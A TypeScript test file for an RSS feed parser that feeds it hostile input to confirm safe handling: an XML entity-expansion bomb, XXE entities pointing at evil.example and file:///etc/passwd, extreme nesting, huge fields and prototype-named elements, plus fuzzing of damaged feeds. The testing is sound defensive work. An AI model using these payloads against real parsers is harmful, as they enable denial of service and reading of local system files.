import { readdirSync, readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { inEnglish } from "../../messages/in-english";
import { Refusal } from "../../read/import-event";
import { FeedRefusal } from "./feed-refusal";
import { parseFeed } from "./parse-feed";
import { MAX_ITEMS } from "./read-feed";

const options = { url: "https://feeds.example/rss.xml", now: Date.parse("2026-11-29T00:00:00Z") };
const rss = (inner: string, before = "") => `${before}<rss><channel><title>T</title>${inner}</channel></rss>`;
const read = (text: string) => parseFeed(text, options);

describe("a feed made to do harm", () => {
  it("does not expand the entities that it declares", () => {
    const levels = Array.from({ length: 12 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(12)}">`);
    const bomb = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">${levels.join("")}]>`;
    const { title, items } = read(
      rss("<item><title>&l12;</title><description>&l12;</description></item>", bomb),
    );
    expect([title, items[0]?.title, items[0]?.summary]).toEqual(["T", "&l12;", "&l12;"]);
  });

  it("fetches no external entity and no DTD", () => {
    const outside =
      '<!DOCTYPE rss SYSTEM "https://evil.example/x.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "https://evil.example/y"> %y;]>';
    expect(read(rss("<item><title>A &x; B</title></item>", outside)).items[0]?.title).toBe("A &x; B");
  });

  it("is read or refused in words if it nests elements without end", () => {
    const deep = (name: string, depth: number) => `<${name}>`.repeat(depth);
    const item = (html: string) => rss(`<item><title>Deep</title><description>${html}</description></item>`);
    for (const depth of [150, 10_000])
      expect(read(item(`${deep("div", depth)}x`)).items[0]?.title).toBe("Deep");
    for (const name of ["a href='/x'", "p", "div", "table"])
      expect(read(item(`<![CDATA[${deep(name, 150_000)}words]]>`)).items[0]?.summary).toContain("words");
    expect(read(rss(deep("item", 15_000))).items).toHaveLength(MAX_ITEMS);
    for (const name of ["div", "item", "b"]) {
      expect(() => read(item(deep(name, 200_000)))).toThrow("The feed is damaged");
      expect(() => read(`${deep(name, 200_000)}${rss("")}`)).toThrow(Refusal);
    }
  });

  it("is read up to a number of items, and says how many more there are", () => {
    const many = rss(
      Array.from({ length: MAX_ITEMS + 7 }, (_, at) => `<item><title>${at}</title></item>`).join(""),
    );
    const { items, omitted, warnings } = read(many);
    expect([items.length, items.at(-1)?.title, omitted]).toEqual([MAX_ITEMS, String(MAX_ITEMS - 1), 7]);
    expect(warnings.map(inEnglish)).toEqual(["Its first 2000 items were read; 7 more were left out."]);
    const json = JSON.stringify({ items: Array.from({ length: MAX_ITEMS + 7 }, (_, id) => ({ id })) });
    expect(read(json).omitted).toBe(7);
  });

  it("may have endless lines, attributes, names and spaces", () => {
    const long = "x".repeat(3_000_000);
    const { items } = read(
      rss(`<item><title>${long}</title><description>${long}</description><guid a="${long}">1</guid></item>`),
    );
    expect([items[0]?.title?.length, items[0]?.summary?.length]).toEqual([2000, 2_000_000]);
    const spaces = " ".repeat(1_000_000);
    for (const odd of [
      `<description>&lt;a href=${spaces}http:x${spaces}&gt;</description>`,
      `<link>https://a.example/${spaces}x\n${spaces}y</link><a xmlns="http://${"/".repeat(1_000_000)}x"/>`,
      `<description>&lt;img src=x srcset="${"a".repeat(1_900_000)} b c"&gt;</description>`,
      `<author>a${spaces}b${spaces}</author><pubDate>1${spaces}March${spaces}</pubDate>`,
      `<title>${"&lt;b&gt;".repeat(200_000)}</title><category>${"&amp;".repeat(500_000)}</category>`,
      `<description>${"<![CDATA[".repeat(100_000)}</description>`,
      `<${"y:".repeat(500_000)}z/><guid>${"&#x41;&copy;".repeat(300_000)}</guid>`,
    ])
      expect(read(rss(`<item>${odd}<link>https://a.example/1</link></item>`)).items).toHaveLength(1);
  });

  it("has names of JavaScript's own objects", () => {
    const names = ["__proto__", "constructor", "hasOwnProperty", "toString"];
    const inner = names.map((name) => `<${name} ${name}="1">x</${name}>`).join("");
    expect(read(rss(`${inner}<item>${inner}<title>Named</title></item>`)).items[0]?.title).toBe("Named");
    expect(() => read("<constructor/>")).toThrow(Refusal);
    expect({}).not.toHaveProperty("1");
  });
});

describe("any feed", () => {
  const folder = new URL("./fixtures/", import.meta.url);
  const feeds = readdirSync(folder).map((file) => readFileSync(new URL(file, folder)));

  it("damaged anywhere is read or refused in words", () => {
    const damage = fc.record({
      at: fc.double({ min: 0, max: 1, noNaN: true }),
      cut: fc.nat(40),
      put: fc.uint8Array({ maxLength: 8 }),
    });
    fc.assert(
      fc.property(
        fc.constantFrom(...feeds),
        fc.array(damage, { minLength: 1, maxLength: 4 }),
        (feed, damages) => {
          let bytes = feed;
          for (const { at, cut, put } of damages) {
            const from = Math.floor(at * bytes.length);
            bytes = Buffer.concat([bytes.subarray(0, from), put, bytes.subarray(from + cut)]);
          }
          try {
            const { items } = parseFeed(bytes, options);
            for (const { link, title } of items) {
              if (link !== null) expect(link).toMatch(/^https?:\/\//i);
              if (title !== null) expect(title).toBe(title.trim());
            }
          } catch (error) {
            expect(error).toBeInstanceOf(FeedRefusal);
          }
        },
      ),
      { numRuns: 300 },
    );
  });
});
